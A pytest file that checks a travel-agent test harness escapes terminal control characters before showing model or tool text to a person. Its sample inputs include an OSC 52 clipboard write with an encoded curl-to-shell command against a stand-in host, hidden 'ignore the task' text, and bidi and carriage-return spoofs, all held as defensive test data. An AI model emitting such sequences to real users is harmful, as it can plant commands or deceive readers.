"""Model text printed for a person shows its terminal control characters escaped: the player's
terminal (``play --as agent`` and ``--as user``) never receives an escape sequence, a lone
carriage return or a bidirectional override from a model or a tool."""

from __future__ import annotations

import asyncio
import io

import pytest

from travelgym.llm.human_client import HumanChatClient, Terminal
from travelgym.llm.protocol import ChatMessage
from travelgym.terminal import printable

HOSTILE = {
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "screen clear": "\x1b[2J\x1b[H",
    "hidden text": "\x1b[8mignore the task\x1b[0m",
    "carriage-return overwrite": "book hotel 7\rbook hotel 1",
    "bidi override": "price \u202e001$\u202c",
    # not in the issue: 8-bit C1 controls (CSI and OSC without ESC) and a line separator
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d52;c;eA==\x9c",
    "line separator": "a\u2028b",
}
CONTROL = set(range(0x20)) - {0x09, 0x0A} | set(range(0x7F, 0xA0))
FORMATTING = {
    0x061C,
    0x200E,
    0x200F,
    0x2028,
    0x2029,
    *range(0x202A, 0x202F),
    *range(0x2066, 0x206A),
}


def assert_inert(screen: str) -> None:
    """No character on ``screen`` can drive a terminal (newlines, CRLF and tabs aside)."""
    bad = sorted({hex(ord(c)) for c in screen.replace("\r\n", "\n")
                  if ord(c) in CONTROL | FORMATTING})  # fmt: skip
    assert not bad, f"raw control characters on screen: {bad}"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_printable_escapes_every_control_and_keeps_layout(text):
    shown = printable(f"line one\n\t{text}\r\n")
    assert_inert(shown)
    assert shown.startswith("line one\n\t") and shown.endswith("\r\n")
    assert printable("plain text, émigré 東京\n\tindented") == "plain text, émigré 東京\n\tindented"


def test_printable_shows_what_was_escaped():
    assert printable("\x1b[2J") == "\\x1b[2J"
    assert printable("a\rb") == "a\\rb"
    assert printable("\u202e") == "\\u202e"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_player_as_agent_sees_no_raw_control_from_the_chat(text):
    """System prompt, the user's reply and a tool result all reach the screen escaped."""
    out = io.StringIO()
    client = HumanChatClient("ann", terminal=Terminal(io.StringIO("done\n"), out))
    chat = [ChatMessage(role="system", content=f"SYSTEM {text}"),
            ChatMessage(role="user", content=f"USER {text}")]  # fmt: skip
    asyncio.run(client.complete(chat, tools=None))
    screen = out.getvalue()
    assert "SYSTEM " in screen and "USER " in screen
    assert_inert(screen)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_player_as_user_sees_the_agents_message_escaped(text):
    """``play --as user``: the suites' human user shows the agent's message on the Terminal."""
    out = io.StringIO()
    terminal = Terminal(io.StringIO(""), out)
    terminal.heading("agent")
    terminal.show(f"Here is your plan. {text}")
    assert "Here is your plan." in out.getvalue()
    assert_inert(out.getvalue())
